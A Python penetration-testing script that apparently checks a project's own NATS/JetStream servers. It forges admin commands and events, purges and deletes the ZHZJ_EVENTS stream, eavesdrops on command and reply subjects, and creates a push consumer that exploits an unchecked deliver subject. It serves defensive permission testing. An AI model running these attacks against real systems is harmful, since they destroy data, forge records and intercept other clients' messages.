#!/usr/bin/env python3
"""Tries, against zhzj's NATS servers, what an attacker on the network would try.

Each attack runs on a fresh connection, made with the credentials given (none, or an NKey seed
file; a CA and a client certificate for TLS), and prints one line:

    REFUSED <attack>: <why>      the server (or, for a command, everyone) refused it
    SUCCEEDED <attack>: <what>   it worked: the credential can do more than it should

The attacks:

  forged-command      a command request on zhzj.cmd.cases in the name of a made-up admin actor
  forged-event        a JetStream publish of a copied (or made-up) commit onto zhzj.ev.case.<id>
  delete-message      delete message 1 of ZHZJ_EVENTS
  purge               purge ZHZJ_EVENTS
  update-stream       change ZHZJ_EVENTS' configuration (adds a subject; reverted if it worked)
  delete-stream       delete ZHZJ_EVENTS
  eavesdrop-commands  subscribe to zhzj.cmd.> (everyone's commands)
  eavesdrop-inboxes   subscribe to _INBOX.> (replies meant for other clients)
  push-consumer       create a push consumer of ZHZJ_EVENTS whose deliver subject is
                      zhzj.cmd.cases: JetStream would then publish stored commits onto a subject
                      the credential may not publish to (nats-server does not check the deliver
                      subject against the creator's permissions: nats-io/nats-server#8274)
  plaintext           (with --check-plaintext) CONNECT without TLS on a raw socket

Exit status: 0 when everything was refused, 1 when anything succeeded, 2 when no connection could
be made at all (with --expect-connect-refused that counts as refused: `REFUSED connect`, exit 0,
which is what an attacker without credentials should get).

Run it only against a test cluster, or with credentials that cannot do these things: what
succeeds is done for real (a forged event is appended, a stream deleted).

NATS reports a permission violation asynchronously (-ERR 'Permissions Violation ...', which
nats-py hands to the error callback) and a request whose subject is denied just gets no answer:
both are caught, with short timeouts.
"""

import argparse
import asyncio
import json
import logging
import os
import socket
import ssl
import sys
import uuid
from urllib.parse import urlparse

import nats
import nats.errors
import nats.js.errors
from nats.js import api

STREAM = "ZHZJ_EVENTS"
TIMEOUT = 2.0


class Refused(Exception):
    """The attack was refused; the message says by whom and how."""


class Attacker:
    def __init__(self, args):
        self.args = args
        self.servers = [s.strip() for s in args.servers.split(",") if s.strip()]
        self.violations = []
        self.copied = None  # (payload, headers) of a message read from the stream

    # -- connections ---------------------------------------------------------------------------

    def tls_context(self):
        a = self.args
        if not (a.tls_ca or a.tls_cert):
            return None
        context = ssl.create_default_context(ssl.Purpose.SERVER_AUTH, cafile=a.tls_ca)
        if a.tls_cert:
            context.load_cert_chain(a.tls_cert, a.tls_key)
        return context

    def inbox_prefix(self):
        if self.args.inbox_prefix:
            return self.args.inbox_prefix
        if self.args.nkey:
            # zhzj's credential files are <role>.nk and each role may read only its own inboxes.
            role = os.path.splitext(os.path.basename(self.args.nkey))[0]
            return f"_INBOX_zhzj_{role}"
        return "_INBOX"

    async def error_cb(self, error):
        self.violations.append(str(error))

    async def connect(self):
        options = dict(
            servers=self.servers,
            error_cb=self.error_cb,
            connect_timeout=TIMEOUT,
            allow_reconnect=False,
            max_reconnect_attempts=0,
            inbox_prefix=self.inbox_prefix(),
            name="zhzj-attack",
        )
        tls = self.tls_context()
        if tls is not None:
            options["tls"] = tls
        if self.args.nkey:
            options["nkeys_seed"] = self.args.nkey
        return await nats.connect(**options)

    # -- the attacks ---------------------------------------------------------------------------
    # Each returns a description of what it achieved, or raises (Refused or any error).

    async def forged_command(self, nc, js):
        request = {
            "command_id": str(uuid.uuid4()),
            "actor": {"user_id": "admin", "roles": ["admin"]},
            "command": {
                "type": "record_note",
                "case_id": "00000000-0000-0000-0000-000000000000",
                "text": "forged",
            },
        }
        try:
            reply = await nc.request("zhzj.cmd.cases", json.dumps(request).encode(), timeout=TIMEOUT)
        except nats.errors.NoRespondersError:
            raise Refused("no responder (the publish itself was allowed; nobody answered)")
        try:
            answer = json.loads(reply.data)
        except ValueError:
            answer = None
        if isinstance(answer, dict) and "error" in answer and "ok" not in answer:
            raise Refused(f"the service refused it: {json.dumps(answer['error'])[:300]}")
        return f"answered: {reply.data[:300]!r}"

    async def copy_a_commit(self, js):
        """A real commit's payload and headers, if this credential can read one."""
        try:
            message = await asyncio.wait_for(js.get_msg(STREAM, seq=1), TIMEOUT)
            # nats-py may hand some header names and values back as its own enum members.
            plain = lambda x: str(getattr(x, "value", x))  # noqa: E731
            headers = {plain(k): plain(v) for k, v in (message.headers or {}).items()}
            # Without its sequence expectations the copy is accepted wherever it lands.
            for name in list(headers):
                if name.lower().startswith("nats-expected") or name.lower() == "nats-msg-id":
                    del headers[name]
            return message.data or b"{}", headers or None, "copied from sequence 1"
        except Exception:  # noqa: BLE001 - then make one up
            payload = json.dumps({"events": [{"type": "note_recorded", "text": "forged"}]})
            return payload.encode(), None, "made up (the stream could not be read)"

    async def forged_event(self, nc, js):
        payload, headers, origin = await self.copy_a_commit(js)
        self.violations.clear()  # a refused read is not what this attack is about
        subject = f"zhzj.ev.case.{self.args.case_id or uuid.uuid4()}"
        try:
            ack = await js.publish(subject, payload, timeout=TIMEOUT, headers=headers)
        except nats.js.errors.NoStreamResponseError:
            raise Refused("no stream answered")
        return f"appended to {ack.stream} at sequence {ack.seq} ({origin}) on {subject}"

    async def delete_message(self, nc, js):
        await js.delete_msg(STREAM, 1)
        return "message 1 deleted"

    async def purge(self, nc, js):
        await js.purge_stream(STREAM)
        return "stream purged"

    async def update_stream(self, nc, js):
        try:
            original = (await js.stream_info(STREAM)).config
        except Exception:  # noqa: BLE001 - attack blind
            original = None
        self.violations.clear()
        if original is not None:
            changed = api.StreamConfig.from_response(original.as_dict())
            changed.subjects = list(original.subjects or []) + ["zhzj.attack.>"]
            changed.description = "changed by attack.py"
        else:
            changed = api.StreamConfig(
                name=STREAM,
                subjects=["zhzj.ev.>", "zhzj.seal", "zhzj.attack.>"],
                storage=api.StorageType.FILE,
                description="changed by attack.py",
            )
        await js.update_stream(changed)
        restored = ""
        if original is not None:
            try:
                await js.update_stream(original)
                restored = " (then restored)"
            except Exception as e:  # noqa: BLE001
                restored = f" (NOT restored: {e})"
        return f"subjects now include zhzj.attack.>{restored}"

    async def delete_stream(self, nc, js):
        await js.delete_stream(STREAM)
        return "stream deleted"

    async def eavesdrop(self, nc, subject):
        received = []

        async def keep(message):
            received.append(message.subject)

        sub = await nc.subscribe(subject, cb=keep)
        await nc.flush(timeout=TIMEOUT)
        await asyncio.sleep(0.5)
        await nc.flush(timeout=TIMEOUT)
        if self.violations:
            raise Refused(self.violations[0])
        await sub.unsubscribe()
        return f"subscription accepted ({len(received)} messages in 0.5 s)"

    async def eavesdrop_commands(self, nc, js):
        return await self.eavesdrop(nc, "zhzj.cmd.>")

    async def eavesdrop_inboxes(self, nc, js):
        return await self.eavesdrop(nc, "_INBOX.>")

    async def push_consumer(self, nc, js):
        config = api.ConsumerConfig(
            deliver_subject="zhzj.cmd.cases",
            deliver_policy=api.DeliverPolicy.LAST,
            ack_policy=api.AckPolicy.NONE,
            inactive_threshold=5.0,
            description="attack.py",
        )
        info = await js.add_consumer(STREAM, config, timeout=TIMEOUT)
        try:
            await js.delete_consumer(STREAM, info.name)
            cleanup = "deleted again"
        except Exception as e:  # noqa: BLE001
            cleanup = f"not deleted: {e}; it expires when idle"
        return f"consumer {info.name} delivers stored commits to zhzj.cmd.cases ({cleanup})"

    ATTACKS = [
        ("forged-command", forged_command),
        ("forged-event", forged_event),
        ("delete-message", delete_message),
        ("purge", purge),
        ("update-stream", update_stream),
        ("eavesdrop-commands", eavesdrop_commands),
        ("eavesdrop-inboxes", eavesdrop_inboxes),
        ("push-consumer", push_consumer),
        ("delete-stream", delete_stream),  # last: if it works, the others would have nothing
    ]

    async def run_one(self, name, attack):
        self.violations.clear()
        nc = await self.connect()
        try:
            js = nc.jetstream(timeout=TIMEOUT)
            try:
                done = await attack(self, nc, js)
            except Refused as e:
                return False, str(e)
            except (nats.errors.TimeoutError, asyncio.TimeoutError):
                try:
                    await nc.flush(timeout=TIMEOUT)
                except Exception:  # noqa: BLE001
                    pass
                why = self.violations[0] if self.violations else "no answer"
                return False, f"{why} (no answer within {TIMEOUT:g} s)"
            except nats.js.errors.APIError as e:
                return False, f"JetStream refused: {e.description or e} (code {e.err_code})"
            except nats.errors.Error as e:
                return False, f"{type(e).__name__}: {e}"
            # Something may still have been refused along the way: collect late errors.
            try:
                await nc.flush(timeout=TIMEOUT)
            except Exception:  # noqa: BLE001
                pass
            return True, done
        finally:
            try:
                await nc.close()
            except Exception:  # noqa: BLE001
                pass

    # -- a plain connection --------------------------------------------------------------------

    def plaintext(self):
        """CONNECT and PING in plain text to the first server; refused unless PONG comes back."""
        url = urlparse(self.servers[0] if "://" in self.servers[0] else f"nats://{self.servers[0]}")
        host, port = url.hostname or "127.0.0.1", url.port or 4222
        try:
            with socket.create_connection((host, port), timeout=TIMEOUT) as s:
                s.settimeout(TIMEOUT)
                info = s.recv(4096).decode(errors="replace")
                s.sendall(b'CONNECT {"verbose":false,"pedantic":false,"tls_required":false}\r\n'
                          b"PING\r\n")
                answer = b""
                while b"\r\n" not in answer:
                    chunk = s.recv(4096)
                    if not chunk:
                        break
                    answer += chunk
        except OSError as e:
            return False, f"{host}:{port}: {e}"
        text = answer.decode(errors="replace").strip()
        if text.startswith("PONG"):
            return True, f"{host}:{port} answered PONG to a plain-text CONNECT"
        required = '"tls_required":true' in info.replace(" ", "")
        said = f"answered {text[:200]!r}" if text else "closed the connection"
        return False, f"{host}:{port} {'requires TLS and ' if required else ''}{said}"


async def main():
    # nats-py closing a TLS connection makes asyncio warn "returning true from eof_received()".
    logging.getLogger("asyncio").setLevel(logging.ERROR)
    parser = argparse.ArgumentParser(
        description=__doc__.split("\n\n")[0],
        epilog="Attacks: " + ", ".join(name for name, _ in Attacker.ATTACKS) + ", plaintext.")
    parser.add_argument("--servers", required=True, help="URL[,URL...], e.g. tls://zhzj-n1:4222")
    parser.add_argument("--nkey", help="an NKey seed file (<role>.nk) to attack with")
    parser.add_argument("--inbox-prefix", help="reply inbox prefix (default: _INBOX_zhzj_<role> "
                        "from the --nkey file's name, or _INBOX)")
    parser.add_argument("--tls-ca", help="CA file the servers' certificates chain to")
    parser.add_argument("--tls-cert", help="client certificate (servers with verify: true)")
    parser.add_argument("--tls-key", help="client certificate's key")
    parser.add_argument("--case-id", help="the case id in the forged event's subject (default: random)")
    parser.add_argument("--expect-connect-refused", action="store_true",
                        help="a refused connection is the expected outcome (no credentials)")
    parser.add_argument("--check-plaintext", action="store_true",
                        help="also try a plain-text (non-TLS) connection to the first server")
    parser.add_argument("--skip", action="append", default=[], metavar="ATTACK",
                        help="leave this attack out (repeatable)")
    args = parser.parse_args()
    if bool(args.tls_cert) != bool(args.tls_key):
        parser.error("--tls-cert and --tls-key go together")

    attacker = Attacker(args)
    succeeded = False

    def report(name, worked, detail):
        nonlocal succeeded
        succeeded |= worked
        print(f"{'SUCCEEDED' if worked else 'REFUSED'} {name}: {detail}", flush=True)

    if args.check_plaintext:
        report("plaintext", *attacker.plaintext())

    try:
        nc = await attacker.connect()
    except Exception as e:  # noqa: BLE001 - whatever stops the connection
        why = f"{type(e).__name__}: {e}".strip()
        if attacker.violations:
            why += f" ({attacker.violations[-1]})"
        if args.expect_connect_refused:
            report("connect", False, f"the connection itself was refused: {why}")
            return 1 if succeeded else 0
        print(f"could not connect: the connection itself was refused: {why}", flush=True)
        return 2
    await nc.close()
    if args.expect_connect_refused:
        report("connect", True, "connected although a refusal was expected")

    for name, attack in Attacker.ATTACKS:
        if name in args.skip:
            continue
        report(name, *await attacker.run_one(name, attack))
    return 1 if succeeded else 0


if __name__ == "__main__":
    sys.exit(asyncio.run(main()))
